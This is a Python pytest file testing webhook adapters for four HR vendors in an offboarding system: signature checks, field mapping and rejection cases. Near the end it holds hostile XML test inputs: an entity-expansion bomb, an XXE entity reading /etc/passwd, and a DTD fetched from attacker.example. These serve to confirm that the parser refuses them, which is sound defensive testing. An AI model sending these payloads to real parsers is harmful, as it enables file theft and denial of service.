"""Each HR adapter against a fixture in its vendor's documented shape: signature, mapping, rejections."""

from __future__ import annotations

import base64
import hmac
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from shared.offboarding.adapters import bamboohr, deel, hibob, successfactors
from shared.offboarding.adapters.config import BambooHRConfig, DeelConfig, HiBobConfig, SuccessFactorsConfig
from shared.offboarding.events import EventError, EventType
from shared.offboarding.signatures import Unauthenticated

FIXTURES = Path(__file__).parent / "fixtures"
KEY = b"vendor-signing-key"
OTHER = b"not-the-key"
NOW = datetime(2026, 12, 1, 9, 20, tzinfo=UTC)
STAMP = str(int(NOW.timestamp()))


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def mac(key: bytes, message: bytes, algorithm: str = "sha256") -> bytes:
    return hmac.new(key, message, algorithm).digest()


# BambooHR: hex HMAC-SHA256 over body ‖ timestamp


def bamboo_headers(body: bytes, key: bytes = KEY, stamp: str = STAMP) -> dict[str, str]:
    return {"X-BambooHR-Timestamp": stamp, "X-BambooHR-Signature": mac(key, body + stamp.encode()).hex()}


def test_bamboohr_maps_the_terminated_employee_only() -> None:
    body = fixture("bamboohr.json")
    received = bamboohr.receive(bamboo_headers(body), body, BambooHRConfig(), (KEY,), NOW)
    assert len(received.events) == 1  # the second employee changed to Full-Time
    inbound = received.events[0]
    assert inbound.event.type is EventType.TERMINATED
    assert inbound.event.data.worker.identifiers() == (("email", "jane.doe@contoso.example"), ("employeeId", "E123"))
    assert inbound.event.data.effective_date.isoformat() == "2026-12-01"
    assert inbound.dedupe_key == "bamboohr:12345:2026-12-01"
    assert inbound.replayable is False


def test_bamboohr_status_values_come_from_the_config() -> None:
    body = fixture("bamboohr.json")
    config = BambooHRConfig(terminated_values=["Full-Time"], event_type=EventType.CONTRACT_ENDED)
    received = bamboohr.receive(bamboo_headers(body), body, config, (KEY,), NOW)
    assert [i.event.data.worker.employee_id for i in received.events] == ["E124"]
    assert received.events[0].event.type is EventType.CONTRACT_ENDED


def test_bamboohr_with_no_terminated_employee_is_acknowledged() -> None:
    body = json.dumps({"employees": [{"id": "1", "fields": {"Employment Status": "Part-Time"}}]}).encode()
    received = bamboohr.receive(bamboo_headers(body), body, BambooHRConfig(), (KEY,), NOW)
    assert received.events == ()
    assert "terminated value" in (received.ignored or "")


@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        pytest.param(bamboo_headers(fixture("bamboohr.json"), OTHER), "does not match", id="wrong-key"),
        pytest.param(bamboo_headers(b"{}"), "does not match", id="tampered-body"),
        pytest.param(
            bamboo_headers(fixture("bamboohr.json"), stamp=str(int(NOW.timestamp()) - 301)), "old", id="expired"
        ),
        pytest.param(
            bamboo_headers(fixture("bamboohr.json"), stamp=str(int(NOW.timestamp()) + 301)), "ahead", id="future"
        ),
        pytest.param({"X-BambooHR-Signature": "00"}, "unix seconds", id="no-timestamp"),
        pytest.param({"X-BambooHR-Timestamp": STAMP}, "missing", id="no-signature"),
        pytest.param(
            {"X-BambooHR-Timestamp": STAMP, "X-BambooHR-Signature": "zz"}, "does not match", id="signature-not-hex"
        ),
    ],
)
def test_bamboohr_refuses(headers: dict[str, str], reason: str) -> None:
    with pytest.raises(Unauthenticated) as refused:
        bamboohr.receive(headers, fixture("bamboohr.json"), BambooHRConfig(), (KEY,), NOW)
    assert reason in refused.value.reason


def test_bamboohr_missing_date_is_bad_input_with_the_path() -> None:
    body = json.dumps({"employees": [{"id": "7", "fields": {"Employment Status": "Terminated", "Employee #": "E7"}}]})
    with pytest.raises(EventError) as refused:
        bamboohr.receive(bamboo_headers(body.encode()), body.encode(), BambooHRConfig(), (KEY,), NOW)
    assert refused.value.path == "employees[0].fields.Employment Status: Date"


# HiBob: HMAC-SHA512 of the body, base64 (hex accepted too)


@pytest.mark.parametrize("encode", [lambda m: base64.b64encode(m).decode(), bytes.hex], ids=["base64", "hex"])
def test_hibob_employee_left_is_a_termination(encode) -> None:  # type: ignore[no-untyped-def]
    body = fixture("hibob.json")
    received = hibob.receive({"Bob-Signature": encode(mac(KEY, body, "sha512"))}, body, HiBobConfig(), (KEY,), NOW)
    inbound = received.events[0]
    assert inbound.event.type is EventType.TERMINATED
    assert inbound.event.data.worker.identifiers() == (("employeeId", "3332883894337012345"),)
    assert inbound.event.data.effective_date.isoformat() == "2026-12-01"
    assert inbound.event.data.source.tenant == "601234"
    assert inbound.replayable is True
    assert inbound.dedupe_key == "hibob:employee.left:3332883894337012345:2026-12-01T06:30:00+00:00"


def test_hibob_identifiers_come_from_configured_paths() -> None:
    body = fixture("hibob.json")
    config = HiBobConfig(identifier_paths={"email": "data.email"})
    received = hibob.receive({"Bob-Signature": mac(KEY, body, "sha512").hex()}, body, config, (KEY,), NOW)
    assert received.events[0].event.data.worker.identifiers() == (("email", "jane.doe@contoso.example"),)


@pytest.mark.parametrize("ping", [b'"Ping test"', b"Ping test", b'{"text":"Ping test"}'])
def test_hibob_ping_is_acknowledged_without_an_event(ping: bytes) -> None:
    received = hibob.receive({}, ping, HiBobConfig(), (KEY,), NOW)
    assert received.events == ()
    assert received.ignored == "HiBob's setup ping"


def test_hibob_unmapped_type_is_acknowledged() -> None:
    body = fixture("hibob.json").replace(b"employee.left", b"employee.updated")
    received = hibob.receive({"Bob-Signature": mac(KEY, body, "sha512").hex()}, body, HiBobConfig(), (KEY,), NOW)
    assert received.events == ()
    assert "not mapped" in (received.ignored or "")


@pytest.mark.parametrize(
    "signature",
    [
        pytest.param(base64.b64encode(mac(OTHER, fixture("hibob.json"), "sha512")).decode(), id="wrong-key"),
        pytest.param(base64.b64encode(mac(KEY, fixture("hibob.json"), "sha256")).decode(), id="sha256-not-sha512"),
        pytest.param("", id="empty"),
    ],
)
def test_hibob_refuses(signature: str) -> None:
    with pytest.raises(Unauthenticated):
        hibob.receive({"Bob-Signature": signature}, fixture("hibob.json"), HiBobConfig(), (KEY,), NOW)


# Deel: hex HMAC-SHA256 of "POST" ‖ body


def test_deel_contract_terminated_is_a_contract_end() -> None:
    body = fixture("deel.json")
    headers = {"x-deel-signature": mac(KEY, b"POST" + body).hex(), "x-deel-hmac-label": "New Webhook"}
    received = deel.receive(headers, body, DeelConfig(), (OTHER, KEY), NOW)
    inbound = received.events[0]
    assert inbound.event.type is EventType.CONTRACT_ENDED
    assert inbound.event.data.effective_date.isoformat() == "2026-12-15"
    assert inbound.event.data.worker.email == "sam.contractor@partner.example"
    assert inbound.dedupe_key == "deel:b1f1c0de-4a4e-4c8a-9d0e-5e6f7a8b9c0d"
    assert inbound.replayable is True


@pytest.mark.parametrize(
    "message",
    [pytest.param(b"", id="body-without-POST"), pytest.param(b"GET", id="other-method")],
)
def test_deel_signs_the_method_and_the_body(message: bytes) -> None:
    body = fixture("deel.json")
    with pytest.raises(Unauthenticated):
        deel.receive({"x-deel-signature": mac(KEY, message + body).hex()}, body, DeelConfig(), (KEY,), NOW)


def test_deel_without_event_id_is_bad_input() -> None:
    body = fixture("deel.json").replace(b'"tracking_id"', b'"trackingId"')
    with pytest.raises(EventError) as refused:
        deel.receive({"x-deel-signature": mac(KEY, b"POST" + body).hex()}, body, DeelConfig(), (KEY,), NOW)
    assert refused.value.path == "data.meta.tracking_id"


# SuccessFactors: HTTP Basic, SOAP ExternalEvent, no DTDs


def basic(user: str, password: bytes) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(user.encode() + b":" + password).decode()}


def test_successfactors_termination() -> None:
    body = fixture("successfactors.xml")
    received = successfactors.receive(basic("successfactors", KEY), body, SuccessFactorsConfig(), (KEY,), NOW)
    inbound = received.events[0]
    assert inbound.event.type is EventType.TERMINATED
    assert inbound.event.data.worker.identifiers() == (("employeeId", "103005"),)
    assert inbound.event.data.effective_date.isoformat() == "2026-12-31"
    assert inbound.event.data.source.tenant == "ACMECORP"
    assert inbound.dedupe_key == "successfactors:8f2a6c1e-3b4d-4e5f-9a0b-1c2d3e4f5a6b:103005"
    assert inbound.replayable is True


def test_successfactors_other_event_types_are_acknowledged() -> None:
    body = fixture("successfactors.xml").replace(b"AssignmentInformation.Termination", b"Compensation.Change")
    received = successfactors.receive(basic("successfactors", KEY), body, SuccessFactorsConfig(), (KEY,), NOW)
    assert received.events == ()


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param(basic("successfactors", OTHER), id="wrong-password"),
        pytest.param(basic("someone", KEY), id="wrong-user"),
        pytest.param({"Authorization": "Bearer " + KEY.decode()}, id="not-basic"),
        pytest.param({"Authorization": "Basic @@@"}, id="not-base64"),
        pytest.param({}, id="none"),
    ],
)
def test_successfactors_refuses(headers: dict[str, str]) -> None:
    with pytest.raises(Unauthenticated):
        successfactors.receive(headers, fixture("successfactors.xml"), SuccessFactorsConfig(), (KEY,), NOW)


ENTITY_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<ExternalEvent>&lol2;</ExternalEvent>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ExternalEvent>&xxe;</ExternalEvent>"""
DTD_ONLY = b"""<?xml version="1.0"?><!DOCTYPE ExternalEvent SYSTEM "http://attacker.example/x.dtd"><ExternalEvent/>"""


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        pytest.param(ENTITY_BOMB, "DTD", id="entity-expansion"),
        pytest.param(EXTERNAL_ENTITY, "DTD", id="external-entity"),
        pytest.param(DTD_ONLY, "DTD", id="external-dtd"),
        pytest.param(b"<ExternalEvent>", "not well-formed", id="unclosed"),
        pytest.param(b"\xff\xfe<x/>", "not well-formed", id="not-xml"),
        pytest.param(b"<Other/>", "not a SuccessFactors ExternalEvent", id="other-document"),
    ],
)
def test_successfactors_hostile_or_foreign_xml_is_bad_input(body: bytes, problem: str) -> None:
    with pytest.raises(EventError) as refused:
        successfactors.receive(basic("successfactors", KEY), body, SuccessFactorsConfig(), (KEY,), NOW)
    assert problem in refused.value.one_line()


def test_every_adapter_is_registered_with_its_own_secret() -> None:
    from shared.offboarding.adapters.registry import ADAPTERS

    assert sorted(ADAPTERS) == ["bamboohr", "deel", "hibob", "successfactors"]
    assert len({adapter.secrets_setting for adapter in ADAPTERS.values()}) == 4
